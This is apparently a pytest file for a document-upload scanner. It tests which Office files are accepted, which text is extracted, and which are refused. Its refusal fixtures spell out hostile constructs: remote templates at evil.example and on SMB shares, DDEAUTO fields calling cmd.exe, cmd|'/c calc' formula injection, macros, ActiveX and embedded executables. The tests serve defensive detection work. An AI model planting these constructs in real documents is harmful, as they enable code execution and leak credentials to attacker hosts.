"""Office files as many programs write them: which are taken, which words are found, and which are refused and why."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cases import case
from tests.tree import made_up_files as files
from tests.tree.made_up_files import RELATIONSHIPS, archive, office, package, relationships, types_of
from tree.exceptions import FileRefused, FileTooLarge
from tree.files.office import checks
from tree.files.office.link_targets import is_on_a_share
from tree.files.office.words import office_text
from tree.files.recognition import Recognised, recognise

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def seen(tmp_path: Path, name: str, content: bytes) -> Recognised:
    path = tmp_path / "file"
    path.write_bytes(content)
    return recognise(path, name)


def words(tmp_path: Path, content: bytes) -> str:
    path = tmp_path / "file"
    path.write_bytes(content)
    return " | ".join(text for text in office_text(path) if text.strip())


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word(body: str, namespace: str = W) -> str:
    return f"<w:document {namespace}><w:body>{body}</w:body></w:document>"


def sheet(cells: str, more: str = "") -> str:
    return f"<worksheet><sheetData><row>{cells}</row></sheetData>{more}</worksheet>"


def word_online() -> bytes:
    """Its main part is document2.xml, and targets begin at the root of the package."""
    parts: dict[str, bytes | str] = {
        "word/document2.xml": word(paragraph("quokka")),
        "word/_rels/document2.xml.rels": relationships((f"{RELATIONSHIPS}/footer", "/word/footer2.xml", "")),
        "word/footer2.xml": f"<w:ftr {W}>{paragraph('at the foot')}</w:ftr>",
    }
    return package(parts, "/word/document2.xml")


def streamed() -> bytes:
    """As programs write that cannot seek: sizes behind the parts, and bits that say so."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError("a pipe")

    pipe = Pipe()
    with (
        zipfile.ZipFile(io.BytesIO(office(main=word(paragraph("quokka"))))) as read,
        zipfile.ZipFile(pipe, "w") as written,
    ):
        for part in read.infolist():
            written.writestr(part.filename, read.read(part))
    return pipe.getvalue()


def with_comment(comment: bytes, behind: bytes = b"") -> bytes:
    file = io.BytesIO(office(main=word(paragraph("quokka"))))
    with zipfile.ZipFile(file, "a") as written:
        written.comment = comment
    return file.getvalue() + behind


def main_type_by_default() -> bytes:
    """Some programs declare the main part's type for all files with the ending .xml."""
    types = f'<Types><Default Extension="xml" ContentType="{files.MAIN_TYPES["docx"]}"/></Types>'
    return package({"word/document.xml": word(paragraph("quokka"))}, "word/document.xml", content_types=types)


def linked(kind: str, target: str, mode: str = "External", source: str = "document", ending: str = "docx") -> bytes:
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[ending]
    rels = relationships((f"{RELATIONSHIPS}/{kind}", target, mode))
    return office(ending, {f"{folder}/_rels/{source}.xml.rels": rels})


def with_types(more: dict[str, bytes | str], **types: str) -> bytes:
    """A Word file with further parts, whose content types stand in ``types`` by a word of their names."""
    parts: dict[str, bytes | str] = {"word/document.xml": "<x/>", **more}
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name in more
        for key, kind in types.items()
        if key in name
    )
    declared = types_of(parts).replace("</Types>", f"{overrides}</Types>")
    return package(parts, "word/document.xml", content_types=declared)


TAKEN: dict[str, Callable[[], bytes]] = {
    "word-online.docx": word_online,
    "strict.docx": lambda: package(
        {"word/document.xml": word(paragraph("quokka"), STRICT)}, "word/document.xml", strict=True
    ),
    "streamed.docx": streamed,
    "default.docx": main_type_by_default,
    "comment.docx": lambda: with_comment(b"made by a document system"),
    "long-comment.docx": lambda: with_comment(b"x" * 65_535),
    "upper.docx": lambda: package({"Word/Document.XML": word(paragraph("quokka"))}, "/word/document.xml"),
    "other-folder.docx": lambda: package({"doc/document.xml": word(paragraph("quokka"))}, "./doc/document.xml"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_word_files_of_other_programs(tmp_path: Path, name: str) -> None:
    content = TAKEN[name]()
    assert not seen(tmp_path, name, content).is_locked
    assert words(tmp_path, content).startswith("quokka")


def test_files_from_the_field(tmp_path: Path) -> None:
    assert seen(tmp_path, "a.docx", case("locked_with_password.docx")).is_locked
    assert seen(tmp_path, "a.xlsx", files.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})).is_locked
    assert not seen(tmp_path, "a.docx", case("zip_comment.docx")).is_locked
    assert "quokka" in words(tmp_path, case("zip_comment.docx"))


WORDS: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "word": (
        office(
            main=word(
                "<w:p><w:r><w:t>tex</w:t></w:r><w:r><w:t>t</w:t></w:r></w:p>"
                f"<w:p><w:r><w:pict><w:txbxContent>{paragraph('in a box')}</w:txbxContent></w:pict></w:r></w:p>"
            ),
            more={
                "word/header1.xml": f"<w:hdr {W}>{paragraph('at the head')}</w:hdr>",
                "word/footnotes.xml": f"<w:footnotes {W}>{paragraph('a footnote')}</w:footnotes>",
                "word/endnotes.xml": f"<w:endnotes {W}>{paragraph('an endnote')}</w:endnotes>",
                "word/comments.xml": f"<w:comments {W}><w:comment>{paragraph('a remark')}</w:comment></w:comments>",
                "word/charts/chart1.xml": "<chart><p><r><t>a chart</t></r></p></chart>",
                "word/diagrams/data1.xml": "<dataModel><p><r><t>a diagram</t></r></p></dataModel>",
            },
        ),
        ("text", "in a box", "at the head", "a footnote", "an endnote", "a remark", "a chart", "a diagram"),
    ),
    "excel": (
        office(
            "xlsx",
            {
                "xl/sharedStrings.xml": "<sst><si><t>shared</t></si><si><r><t>ri</t></r><r><t>ch</t></r></si></sst>",
                "xl/worksheets/sheet1.xml": sheet(
                    '<c t="s"><v>987</v></c><c t="inlineStr"><is><t>inline</t></is></c>'
                    '<c t="str"><f>A1&amp;"x"</f><v>by formula</v></c><c><f>1+1</f><v>4711</v></c><c><v>815</v></c>'
                    '<c t="b"><v>654</v></c><c t="e"><v>#REF!</v></c>',
                    '<headerFooter><oddHeader>&amp;L&amp;"Arial,Bold"&amp;12Head &amp;P</oddHeader></headerFooter>',
                ),
                "xl/comments1.xml": "<comments><comment><text><r><t>a remark</t></r></text></comment></comments>",
                "xl/threadedComments/threadedComment1.xml": "<threadedComment><text>a thread</text></threadedComment>",
                "xl/drawings/drawing1.xml": "<wsDr><sp><p><r><t>a box</t></r></p></sp></wsDr>",
            },
            main='<workbook><sheets><sheet name="Routers"/></sheets></workbook>',
        ),
        ("shared", "rich", "inline", "by formula", "4711", "815", "Head", "a remark", "a thread", "a box", "Routers"),
    ),
    "powerpoint": (
        office(
            "pptx",
            {
                "ppt/slides/slide1.xml": "<sld><p><r><t>a slide</t></r></p></sld>",
                "ppt/notesSlides/notesSlide1.xml": "<notes><p><r><t>a note</t></r></p></notes>",
                "ppt/comments/comment1.xml": "<cmLst><cm><text>a remark</text></cm></cmLst>",
                "ppt/comments/modernComment1.xml": "<cm><txBody><p><r><t>a thread</t></r></p></txBody></cm>",
            },
        ),
        ("a slide", "a note", "a remark", "a thread"),
    ),
}


@pytest.mark.parametrize("program", WORDS)
def test_words_that_are_found(tmp_path: Path, program: str) -> None:
    content, expected = WORDS[program]
    found = words(tmp_path, content).split(" | ")
    assert {text for text in expected if not any(text == " ".join(part.split()) for part in found)} == set()
    assert not {"987", "654", "#REF!"} & set(found)  # the number of a shared string, a truth value and an error


def field(*instructions: str) -> str:
    """A field of Word, its instruction spread over runs, as Word spreads it."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def quoted_dde() -> str:
    """DDE written as character codes in a field within the field."""
    codes = " ".join(str(ord(c)) for c in "DDEAUTO")
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    inner = f"{begin}<w:instrText> QUOTE {codes}</w:instrText>{end}"
    return f"<w:p><w:r>{begin}{inner}<w:instrText> c:\\\\a.exe x</w:instrText>{end}</w:r></w:p>"


# name → content, words of the refusal
REFUSED: dict[str, tuple[bytes, str]] = {
    "remote-template.docx": (linked("attachedTemplate", "https://evil.example/t.dotm", source="settings"), "template"),
    "share-template.docx": (linked("attachedTemplate", r"file:///\\10.0.0.1\x\t.dotx", source="settings"), "template"),
    "file-host.docx": (linked("attachedTemplate", "file://evil.example/t.dotx", source="settings"), "template"),
    "strict-template.docx": (
        office(
            more={
                "word/_rels/settings.xml.rels": relationships(
                    (
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
                        "http://x.example/",
                        "External",
                    )
                )
            }
        ),
        "template",
    ),
    "linked-object.docx": (linked("oleObject", "http://evil.example/a.html!"), "Break the link"),
    "linked-local-object.xlsx": (
        linked("oleObject", "file:///c:/a.doc", source="workbook", ending="xlsx"),
        "Break the link",
    ),
    "picture-of-share.docx": (linked("image", r"\\10.0.0.1\share\a.png"), "picture"),
    "frame.docx": (linked("frame", "http://evil.example/"), "loads a part"),
    "sub-document.docx": (linked("subDocument", "https://evil.example/a.docx"), "loads a part"),
    "object.docx": (
        office(
            more={
                "word/_rels/document.xml.rels": relationships((f"{RELATIONSHIPS}/oleObject", "embeddings/o.bin", "")),
                "word/embeddings/o.bin": b"x",
            }
        ),
        "OLE",
    ),
    "object-by-type.docx": (
        with_types({"word/odd.dat": b"x"}, odd="application/vnd.openxmlformats-officedocument.oleObject"),
        "OLE",
    ),
    "object-by-content.docx": (office(more={"word/media/image1.png": OLE}), "OLE"),
    "rich-text-inside.docx": (office(more={"word/afchunk.rtf": b"{\\rtf1 {\\object}}"}), "OLE"),
    "control.docx": (office(more={"word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
    "control.pptx": (linked("control", "../x.xml", "", source="presentation", ending="pptx"), "ActiveX"),
    "macro-link.docx": (linked("vbaProject", "odd.bin", ""), "macros"),
    "excel4.xlsx": (linked("xlMacrosheet", "odd.xml", "", source="workbook", ending="xlsx"), "macros"),
    "dde.docx": (office(main=word(field(" DDEAU", "TO c:\\\\windows\\\\system32\\\\cmd.exe"))), "DDE"),
    "dde-quoted.docx": (office(main=word(quoted_dde())), "DDE"),
    "dde-simple.docx": (office(main=word('<w:fldSimple w:instr=" dde excel a"/>')), "DDE"),
    "dde-in-header.docx": (office(more={"word/header1.xml": f"<w:hdr {W}>{field('DDE x y')}</w:hdr>"}), "DDE"),
    "dde-open.docx": (
        office(main=word('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText></w:r>')),
        "DDE",
    ),
    "dde-16.docx": (
        package({"word/document.xml": word(field("DDEAUTO x y")).encode("utf-16")}, "word/document.xml"),
        "DDE",
    ),
    "link-field.docx": (office(main=word(field('LINK Excel.Sheet.8 "c:\\\\a.xls" "" \\\\a'))), "LINK"),
    "include.docx": (office(main=word(field(' INCLUDETEXT "https://evil.example/a.docx"'))), "INCLUDETEXT"),
    "include-share.docx": (office(main=word(field(r' INCLUDEPICTURE "\\10.0.0.1\a.png" \d'))), "INCLUDETEXT"),
    "dde.xlsx": (
        office(
            "xlsx", {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        "DDE",
    ),
    "ole-link.xlsx": (
        office("xlsx", {"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}),
        "DDE",
    ),
    "formula.xlsx": (
        office("xlsx", {"xl/worksheets/sheet1.xml": sheet("<c><f>cmd|'/c calc'!A0</f><v>0</v></c>")}),
        "formula",
    ),
    "formula-written.xlsx": (
        office("xlsx", {"xl/worksheets/sheet1.xml": sheet("<c><f>'cmd'&#x7C;'/c calc'!A0</f></c>")}),
        "formula",
    ),
    "formula-behind-quotes.xlsx": (
        office(
            "xlsx", {"xl/worksheets/sheet1.xml": sheet("""<c><f t="a>b">'a"b'!A1&amp;"|"&amp;cmd|'/c'!A0</f></c>""")}
        ),
        "formula",
    ),
    "formula-with-comment.xlsx": (
        office("xlsx", {"xl/worksheets/sheet1.xml": sheet("<c><f><!-- x -->cmd|'/c calc'!A0</f></c>")}),
        "formula",
    ),
    "formula-far.xlsx": (
        office("xlsx", {"xl/worksheets/sheet1.xml": sheet("<c/>" * 262_140 + "<c><f>cmd|'/c calc'!A0</f></c>")}),
        "formula",
    ),
    "name.xlsx": (
        office(
            "xlsx", main="<workbook><definedNames><definedName>cmd|'/c calc'!A0</definedName></definedNames></workbook>"
        ),
        "formula",
    ),
    "run.pptx": (
        office("pptx", {"ppt/slides/slide1.xml": '<sld><hlinkMouseOver action="ppaction://program"/></sld>'}),
        "Run Program",
    ),
    "inner-macros.pptx": (
        office("pptx", {"ppt/embeddings/w.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "inner-template.pptx": (
        office(
            "pptx", {"ppt/embeddings/w.docx": linked("attachedTemplate", "http://evil.example/", source="settings")}
        ),
        "template",
    ),
    "inner-xlsm.pptx": (office("pptx", {"ppt/embeddings/w.xlsm": office("xlsx")}), "program or an archive"),
    "inner-archive.docx": (office(more={"word/media/image1.png": archive({"a": "b"})}), "archive"),
    "program.docx": (office(more={"word/media/image1.png": b"MZ" + bytes(100)}), "program"),
    "wrong-comment.docx": (with_comment(b"comment", b"<script>"), "appended"),
    "fake-end.docx": (with_comment(b"x" + b"PK\x05\x06" + bytes(18) + b"y"), "damaged"),
    "twice.docx": (office(more={"Word/Document.xml": "<x/>"}), "damaged"),
    "no-main.docx": (
        archive({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<R/>", "word/document.xml": "<x/>"}),
        "no docx",
    ),
    "broken-types.docx": (archive({"[Content_Types].xml": "<Types", "_rels/.rels": "<R/>"}), "damaged"),
    "entity-types.docx": (archive({"[Content_Types].xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><Types/>"}), "damaged"),
    "sheet.docx": (office("xlsx"), r"an Excel file \(\.xlsx\)"),
    "cut.docx": (OLE, "damaged"),
    "old.docx": (files.ole({"WordDocument": b"x", "1Table": b"x"}), "older Office program"),
    "both.docx": (
        files.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x", "WordDocument": b"x"}),
        "two things at once",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_starts_or_loads_something_is_refused_in_words(tmp_path: Path, name: str) -> None:
    content, expected = REFUSED[name]
    with pytest.raises(FileRefused) as refused:
        seen(tmp_path, name, content)
    assert re.search(expected, str(refused.value)), refused.value
    assert name in str(refused.value)


HARMLESS = {
    "hyperlink.docx": linked("hyperlink", "https://portal.example/x?a=1"),
    "mail.docx": linked("hyperlink", "mailto:ana@zeta.example"),
    "link-to-share.docx": linked("hyperlink", r"file:///\\server\share\a.docx"),
    "own-template.docx": linked("attachedTemplate", r"file:///C:\Users\ana\Templates\Letter.dotx", source="settings"),
    "normal.docx": linked("attachedTemplate", "Normal.dotm", source="settings"),
    "picture-of-web.docx": linked("image", "https://portal.example/logo.png"),
    "other-workbook.xlsx": linked("externalLinkPath", r"file:///\\server\a.xlsx", source="workbook", ending="xlsx"),
    "film.pptx": linked("video", "https://films.example/a", source="presentation", ending="pptx"),
    "fields.docx": office(main=word(field("PAGE") + field(" HYPERLINK ", '"https://a.example"') + field("TOC \\o"))),
    "words.docx": office(main=word(paragraph("DDEAUTO, LINK and cmd|calc"))),
    "pipe.xlsx": office(
        "xlsx", {"xl/worksheets/sheet1.xml": sheet("<c><f>A1&amp;\"|\"&amp;'a|b'!B1</f><v>x|y</v></c>")}
    ),
    "next.pptx": office("pptx", {"ppt/slides/slide1.xml": '<s><hlinkClick action="ppaction://hlinkshowjump"/></s>'}),
    "chart.pptx": office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
    "printer.xlsx": office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"P\0r\0i\0n\0t\0"}),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_asks_before_it_does_anything_is_taken(tmp_path: Path, name: str) -> None:
    assert not seen(tmp_path, name, HARMLESS[name]).is_locked


@pytest.mark.parametrize(
    ("target", "is_elsewhere"),
    [
        (r"\\server\share\a.png", True),
        ("//server/a.png", True),
        ("file://server/a.png", True),
        ("file:////server/a.png", True),
        (r"file:///\\server\a.png", True),
        ("FILE:///%5C%5Cserver/a.png", True),
        (r"\\?\UNC\server\a", True),
        (r"file:///C:\a.png", False),
        ("file://C:/a.png", False),
        ("file://localhost/c:/a.png", False),
        ("file:///home/ana/a.png", False),
        (r"C:\a.png", False),
        ("../media/a.png", False),
        ("/media/a.png", False),
        ("https://portal.example/a.png", False),
    ],
)
def test_places_on_shares(target: str, is_elsewhere: bool) -> None:
    assert is_on_a_share(target) == is_elsewhere


def test_packages_within_packages_have_one_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    inner = office("xlsx", {"xl/worksheets/sheet1.xml": " " * 40_000})
    both = office("pptx", {"ppt/embeddings/1.xlsx": inner, "ppt/embeddings/2.xlsx": inner})
    seen(tmp_path, "a.pptx", both)
    monkeypatch.setattr(checks, "MAX_UNPACKED_BYTES", 70_000)
    with pytest.raises(FileTooLarge):
        seen(tmp_path, "a.pptx", both)


def test_packages_are_not_nested_without_end(tmp_path: Path) -> None:
    content = office("docx")
    for _ in range(6):
        content = office("docx", {"word/embeddings/a.docx": content})
    with pytest.raises(FileTooLarge):
        seen(tmp_path, "a.docx", content)
